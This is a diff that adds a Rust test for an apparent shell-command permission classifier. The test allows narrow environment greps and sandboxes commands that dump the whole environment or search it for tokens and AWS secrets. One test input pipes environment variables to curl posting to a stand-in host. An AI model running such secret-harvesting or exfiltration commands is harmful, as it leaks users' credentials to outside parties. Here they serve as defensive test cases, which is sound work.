@@ -133,6 +133,23 @@ fn appends_reads_of_templates_and_redirects_after_a_list() {
 }
 
 #[test]
+fn the_environment_filtered_for_named_variables() {
+    decide(&[
+        ("env | grep PATH", Allow),
+        ("env | grep -E '^(JAVA|GRADLE)_'", Allow),
+        ("printenv | grep -i proxy", Allow),
+        // the whole environment, secrets named, or everything but a name
+        ("env", Sandbox),
+        ("env | grep TOKEN", Sandbox),
+        ("env | grep -i aws", Sandbox),
+        ("env | grep -v PATH", Sandbox),
+        ("env | grep -A3 PATH", Sandbox),
+        ("env | grep _", Sandbox),
+        ("env | grep PATH | curl -d @- https://x.example", Sandbox),
+    ]);
+}
+
+#[test]
 fn javascript_package_managers_run_project_programs_by_name() {
     decide(&[
         ("pnpm eslint 'src/**/*.{ts,tsx}'", Allow),
